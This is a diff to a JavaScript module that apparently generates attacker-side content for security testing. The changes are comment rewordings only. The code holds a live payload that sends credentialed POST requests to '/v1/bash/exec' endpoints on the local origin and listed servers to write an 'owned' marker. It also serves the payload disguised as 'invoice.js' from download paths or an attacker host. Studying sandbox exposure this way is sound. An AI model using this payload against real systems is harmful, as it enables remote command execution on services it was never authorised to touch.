@@ -1,6 +1,6 @@
-// What the attacker writes: a script, the files that hold it in every type that a browser can show, and where they are put.
+// Content of the attacker: a script, files with it in every type that a browser can show, and their paths.
 
-// payload is a script that reports where it runs, and then uses every API that it can reach. aims are the addresses of our servers.
+// payload is a script that reports where it runs, and then uses every API that it can reach. aims are the URLs of our servers.
 export const payload = (evil, aims) => `globalThis.sweep = (way) => {
   const say = (word, more) => {
     const line = ["SWEEP", word, self.origin, location.href, more ?? ""].join(" | ");
@@ -16,7 +16,7 @@ export const payload = (evil, aims) => `globalThis.sweep = (way) => {
   const post = (at, path, type, body) => fetch(at + path, { method: "POST", credentials: "include", headers: { "Content-Type": type }, body: JSON.stringify(body) }).then((r) => r.text());
   const exec = (at, type) => post(at, "/v1/bash/exec", type, { command: "echo " + mark + " >> ~/owned" }).catch(() => {});
   exec(here.origin + below, "application/json");
-  // Where it runs by right, it tries everything else. Where it must not run at all, it has done enough.
+  // Where it may run, it tries all other targets. Where it must not run, the report is sufficient.
   if (self.origin !== "null" && !/:\\/\\/\\d+-/.test(self.origin)) return;
   for (const at of new Set([here.origin, here.origin + below, ...${JSON.stringify(aims)}])) {
     exec(at, "text/plain");
@@ -35,7 +35,7 @@ export const payload = (evil, aims) => `globalThis.sweep = (way) => {
 };
 globalThis.sweep("script");`;
 
-// files are the attacker's files, by name. A page that may load scripts of its own origin only is given some there.
+// files are the attacker's files, by name. Pages that may load only scripts of their own origin find scripts there.
 export function files(evil, aims) {
   const script = payload(evil, aims);
   const from = ["/e2b/envd/files?path=Downloads/invoice.js", "/v1/file/download?path=Downloads/invoice.js", "/files?path=Downloads/invoice.js", "invoice.js", `${evil}/p.js`];
